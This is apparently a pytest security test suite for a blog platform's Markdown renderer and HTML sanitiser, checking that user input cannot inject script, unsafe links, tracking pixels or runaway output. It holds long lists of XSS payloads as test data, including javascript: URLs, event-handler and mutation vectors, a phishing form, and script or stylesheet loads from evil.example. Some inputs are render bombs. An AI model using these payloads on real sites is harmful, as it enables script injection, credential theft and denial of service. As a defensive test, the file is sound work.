"""Nothing that anyone can type runs, loads, leaves its place on the page, or takes without end."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pikir.media.models import Picture
from pikir.posts.rendering import render, render_comment, render_note
from pikir.posts.rendering.wall import sanitise

OWN = "00112233445566778899aabbccddeeff"
PICTURES = {
    OWN: Picture(id=1, name=OWN, width=1600, height=900, alt='"><script>alert(1)</script>', caption="<img src=x>")
}

VOID = {"br", "hr", "img"}
ATTRIBUTES = {
    **dict.fromkeys(["p", "br", "hr", "strong", "em", "s", "code", "blockquote", "ul", "sup"], frozenset()),
    **dict.fromkeys(["figure", "figcaption", "table", "thead", "tbody", "tr"], frozenset()),
    **dict.fromkeys(["h2", "h3", "h4", "h5", "h6", "li"], frozenset({"id"})),
    **dict.fromkeys(["td"], frozenset({"class"})),
    "a": frozenset({"href", "rel", "id", "aria-label"}),
    "div": frozenset({"class", "tabindex"}),
    "img": frozenset({"src", "srcset", "sizes", "alt", "width", "height", "loading"}),
    "ol": frozenset({"start"}),
    "pre": frozenset({"tabindex"}),
    "section": frozenset({"class", "aria-label"}),
    "span": frozenset({"class"}),
    "th": frozenset({"class", "scope"}),
}
CLASSES = {"", "scroll", "footnotes", "credit", "num", "center"}
ADDRESS = re.compile(r"https?://[^/\\@]|mailto:|/(?![/\\])|#(?:h|fn|fnref)-")
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


class Inspector(HTMLParser):
    """Reads a page as a browser would, and objects to whatever no text of ours contains."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.ids: list[str] = []
        self.feed(html)
        self.close()
        assert self.open == []
        assert len(self.ids) == len(set(self.ids))

    def handle_starttag(self, tag, attrs):
        assert tag in ATTRIBUTES
        values = {name: value or "" for name, value in attrs}
        assert set(values) <= ATTRIBUTES[tag]
        assert values.get("class", "") in CLASSES
        assert ADDRESS.match(values.get("href", "#h-"))
        assert re.match(r"(h|fn|fnref)-[0-9a-z-]+$", values.get("id", "h-1"))
        if tag == "img":
            assert values["src"] == f"/media/{OWN}-1600.webp"
        if values.get("href", "").startswith("http"):
            assert values["rel"] == "nofollow ugc noopener"
        self.ids += [values["id"]] if "id" in values else []
        self.open += [] if tag in VOID else [tag]

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def refuse(self, _text):
        pytest.fail("neither comments nor declarations nor instructions")

    handle_comment = handle_decl = unknown_decl = handle_pi = refuse


SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) />",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><annotation encoding='text/html'><script>alert(1)</script></annotation></math>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<body onload=alert(1)>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>'>]>&x;",
    "<a href=javascript:alert(1)>x</a>",
    "<p id=main class=bar>x</p>",
    "<div",
    "<a href='",
    "</article></main><h1>mine</h1>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "\u02bascript\u02ba <ſcript>alert(1)</ſcript> ＜script＞",
]
LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](&#0000106avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u202ejavascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x](ftp://example.org)",
    "[x](tel:+77010000000)",
    "[x](//evil.example)",
    "[x](///evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](/&Tab;/evil.example)",
    "[x](https:evil.example)",
    "[x](https:/evil.example)",
    "[x](https://egov.kz@evil.example)",
    "[x](https://egov.kz:443@evil.example/)",
    "[x](https://[::1)",
    "[x](https://[evil])",
    "[x](https://\u0430pple.example)",
    "[x](picture:1)",
    "[x](../../account/)",
    "[x](?next=//evil.example)",
    '[x](https://example.org "onmouseover=alert(1)")',
    '[x](https://example.org/"onmouseover="alert(1))',
    "[x](https://example.org/'onmouseover='alert(1))",
    "[x](https://example.org/<script>)",
    "[x][a]\n\n[a]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<https://example.org/\"onmouseover='alert(1)>",
    'https://example.org/"onmouseover="alert(1)',
    "javascript:alert(1)",
    "https://example.org/<script>alert(1)</script>",
    "www.example.org/\x00",
    "[x](#main)",
    "[x](#)",
    "[![x](https://evil.example/p.gif)](javascript:alert(1))",
    "[[x](javascript:alert(1))](https://example.org)",
]
PIXELS = [
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](picture:javascript:alert(1))",
    "![x](/media/../account/)",
    f"![x](/media/{OWN}/../../account/logout/)",
    f"![x](picture:{OWN}?x)",
    f'!["><script>](picture:{OWN} "<script>alert(1)</script>")',
    f"![&quot; onerror=&quot;alert(1)](picture:{OWN})",
    f"![x\" onerror='alert(1)'](picture:{OWN} '\" onload=\"alert(1)')",
    f"[![x](picture:{OWN})](javascript:alert(1))",
    "![[x](javascript:alert(1))](https://evil.example)",
]
PLACES = [
    "# main",
    "# <a id=x>",
    "# \"onclick='alert(1)'",
    "# a\n# a\n# a-2\n# a",
    "# fn-7-1\n\nx[^1]\n\n[^1]: y",
    "x[^__proto__] y[^constructor]\n\n[^__proto__]: a\n\n[^constructor]: b",
    '[^"><script>]\n\n[^"><script>]: x',
    "x[^1]\n\n[^1]: a\n\n[^1]: b",
    "x[^1]\n\n[^1]: self [^1] and [^2]\n\n[^2]: back [^1]",
    "x^[a ^[b ^[c]]]",
    "[x[^1]](https://example.org)\n\n[^1]: y",
    "# x[^1]\n\n[^1]: # y",
    "| <script> |\n|---|\n| [x](javascript:alert(1)) |",
    "|a|\n|:-\"onclick='alert(1)'-:|\n|b|",
    "999999999. x\n\n-1. y\n\n0. z",
    "\u202e\u2066\u2067gnp.exe\u2069\u202c [\u202ex](https://example.org)",
    "a\u0301" * 500 + "\u200d\u200b\u00ad",
    "\ud800 \udfff \ufffe \U0010ffff",
    "\x1b[31m \x7f \x85",
]
SIZE = 50_000
ROWS = "|a" * 100 + "\n" + "|-" * 100 + "\n"
BOMBS = [
    *(sign * SIZE for sign in "[]()<>*_`~!^|#-+&\\:@/=\n\t\"'"),
    *(pair * (SIZE // 2) for pair in ("[]", "![", "[^", "^[", "**", "*_", "- ", "> ", "&#", "a@", "a.", "//", "]:")),
    *(piece * (SIZE // 8) for piece in ("[a](", "*a **b ", "<a ", "&amp;", "```\n", "~~~a\n", "1. ", "a\n", "* a\n")),
    *(
        piece * (SIZE // 12)
        for piece in ("http://", "https://a.b/", "[^a]: ", '[a](b "', "<!--", "<![CDATA[", "~~a__*")
    ),
    "[" * (SIZE // 2) + "]" * (SIZE // 2),
    "".join("`" * length + " " for length in range(300)),
    "".join("  " * depth + "- a\n" for depth in range(200)),
    "".join(">" * depth + "a\n" for depth in range(200)),
    ">" * 100 + "a\n" + "b\n" * 5_000,
    ROWS + ("|b" * 100 + "\n") * 200,
    "|a" * 3_000 + "\n" + "|-" * 3_000 + "\n" + "|\n" * 3_000,
    "".join(f"[^{number}]: x\n" for number in range(3_000)) + "".join(f"[^{number}]" for number in range(3_000)),
    "[^a]: " + "[^a]" * 10_000,
    "[a]: /" + "u" * 1_000 + "\n\n" + "[a]" * 10_000,
    f"![x](picture:{OWN})\n" * 1_000,
    "# a\n" * 5_000,
]


@pytest.mark.parametrize("source", SCRIPTS + LINKS + PIXELS + PLACES)
def test_attack_is_harmless(source):
    Inspector(render(source, post_id=7, language="kk", pictures=PICTURES).html)
    Inspector(render_comment(source).html)
    Inspector(render_note(source).html)


@pytest.mark.parametrize("source", BOMBS, ids=range(len(BOMBS)))
def test_bomb_ends(source):
    made = render(source, post_id=7, language="ru", pictures=PICTURES)
    Inspector(made.html)
    assert len(made.html) < 2_100_000


@pytest.mark.parametrize("source", BOMBS, ids=range(len(BOMBS)))
def test_bomb_in_a_comment_ends(source):
    Inspector(render_comment(source[:10_000]).html)


@given(st.text(alphabet="[]()<>*_`~!^|#-> \n\\&:;/\"'=ab1җ\u202e\x00", max_size=80))
@settings(max_examples=300, deadline=None, derandomize=True)
def test_any_mixture_is_harmless(source):
    made = render(source, post_id=7, language="en", pictures=PICTURES)
    Inspector(made.html)
    assert not CONTROLS.search(made.html + made.plain)


@pytest.mark.parametrize("source", SCRIPTS)
def test_the_second_wall_holds_alone(source):
    """Even markup that the grammar would never let through."""
    html = sanitise(source)
    assert not re.search(
        r"<(?:script|style|svg|math|iframe|object|embed|form|input|meta|link|base)\b", html, re.IGNORECASE
    )
    assert not re.search(r"<[^>]*(?:\son\w+=|javascript:|style=)", html, re.IGNORECASE)


@pytest.mark.parametrize(
    "html",
    [
        '<a href="//evil.example">x</a>',
        '<a href="/\\evil.example">x</a>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="relative">x</a>',
        '<a id="main" class="bar" target="_blank">x</a>',
        '<img src="https://evil.example/p.gif" srcset="https://evil.example/p.gif 1w" onerror="alert(1)">',
        '<h2 id="main">x</h2>',
    ],
)
def test_the_second_wall_strips_attributes(html):
    assert re.fullmatch(r"<(a|img|h2)>(x</\1>)?", sanitise(html))


@pytest.mark.parametrize("entity", ["&#12;", "&#x202e;", "&#x2066;", "&#127;", "&#x80;", "&#xfeff;"])
def test_a_sign_without_a_face_does_not_come_in_as_an_entity(entity: str) -> None:
    made = render(f"# a{entity}b\n\na{entity}b [a{entity}b](/x/ 'a{entity}b')", post_id=1, language="en")
    for text in (made.html, made.plain, made.headings[0].text, render_comment(f"a{entity}b").html):
        assert not CONTROLS.search(text.replace("\n", ""))
        assert "\ufeff" not in text
